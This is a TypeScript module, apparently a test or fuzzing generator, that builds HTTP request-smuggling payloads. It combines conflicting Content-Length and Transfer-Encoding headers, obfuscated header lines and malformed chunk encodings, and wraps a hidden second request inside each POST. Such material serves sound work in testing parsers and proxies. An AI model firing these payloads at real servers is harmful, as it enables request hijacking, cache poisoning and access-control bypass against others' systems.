/**
 * Requests with a second one hidden in them, which a proxy before the service or behind it may see where the other does
 * not (RFC 9112, 11.2): bodies of doubtful length, lines that end oddly, headers that are no headers.
 */
const HEAD = 'HTTP/1.1\r\nHost: localhost\r\n';
const CHUNKED = 'Transfer-Encoding: chunked\r\n';
const LENGTH = 'Content-Length: 5\r\n';
/** To one reader a body without a byte, to another the beginning of one. */
const LAST = '0\r\n\r\n';

/** Two headers of which each reader believes one. */
const BOTH = [
  `${LENGTH}${CHUNKED}`,
  `${CHUNKED}${LENGTH}`,
  `${CHUNKED}Content-Length: 0\r\n`,
  `tRANSFER-eNCODING: cHUNKED\r\n${LENGTH}`,
];

/** Lines that one reader takes for `Transfer-Encoding: chunked`, and another does not. */
const ENCODINGS = [
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunkedx',
  'Transfer-Encoding: x, chunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: chunked, chunked',
  'Transfer-Encoding: identity, chunked;q=0.5',
  'Transfer-Encoding: "chunked"',
  'Transfer-Encoding:',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding\t: chunked',
  'Transfer-Encoding:\x0bchunked',
  'Transfer-Encoding: chunked\x0b',
  'Transfer-Encoding: \0chunked',
  ' Transfer-Encoding: chunked',
  'X: y\r\n Transfer-Encoding: chunked',
  'Transfer-Encoding:\r\n chunked',
  'X: y\rTransfer-Encoding: chunked',
  'X: y\nTransfer-Encoding: chunked',
];

const LENGTHS = [
  'Content-Length: 0\r\nContent-Length: 5',
  'Content-Length: 5\r\nContent-Length: 5',
  'Content-Length: 0, 5',
  'Content-Length: 5 5',
  'Content-Length: +5',
  'Content-Length: -5',
  'Content-Length: 0x5',
  'Content-Length: 5;',
  'Content-Length: 5\x0b',
  'Content-Length:',
  'Content-Length : 5',
  'X: y\r\n Content-Length: 5',
  'X: y\nContent-Length: 5',
  'Content-Length: 18446744073709551621',
];

/** Chunks, of a length or with an end that two readers may see differently. */
const CHUNKS = [
  '5\nhello\r\n0\r\n\r\n',
  '5\rhello\r\n0\r\n\r\n',
  '5\r\nhello\n0\r\n\r\n',
  '5\r\nhello0\r\n\r\n',
  '5 \r\nhello\r\n0\r\n\r\n',
  ' 5\r\nhello\r\n0\r\n\r\n',
  '0x5\r\nhello\r\n0\r\n\r\n',
  '+5\r\nhello\r\n0\r\n\r\n',
  '-0\r\n\r\n',
  '5;\nhello\r\n0\r\n\r\n',
  '5;x=y\n\r\nhello\r\n0\r\n\r\n',
  '5;x="\r\nhello\r\n0\r\n\r\n',
  '10000000000000005\r\nhello\r\n0\r\n\r\n',
  '0\n\n',
  '0\r\n\n',
  '0\r\nContent-Length: 5\r\n\r\n',
];

/** Each of them is a POST of `path` with `hidden` behind or in it. */
export function smuggled(path: string, hidden: string): readonly string[] {
  const start = `POST ${path} ${HEAD}`;
  const oddLines = [...ENCODINGS.flatMap((line) => [line, `${LENGTH}${line}`]), ...LENGTHS];
  return [
    ...BOTH.map((lines) => `${start}${lines}\r\n${LAST}${hidden}`),
    ...oddLines.map((lines) => `${start}${lines}\r\n\r\n${LAST}${hidden}`),
    ...CHUNKS.map((chunks) => `${start}${CHUNKED}\r\n${chunks}${hidden}`),
    // In a chunk whose size one reader takes for the end.
    `${start}${LENGTH}${CHUNKED}\r\n${hidden.length.toString(16)}\r\n${hidden}\r\n${LAST}`,
    `${start}${CHUNKED}\r\n1\r\naXX${LAST}${hidden}`,
  ];
}
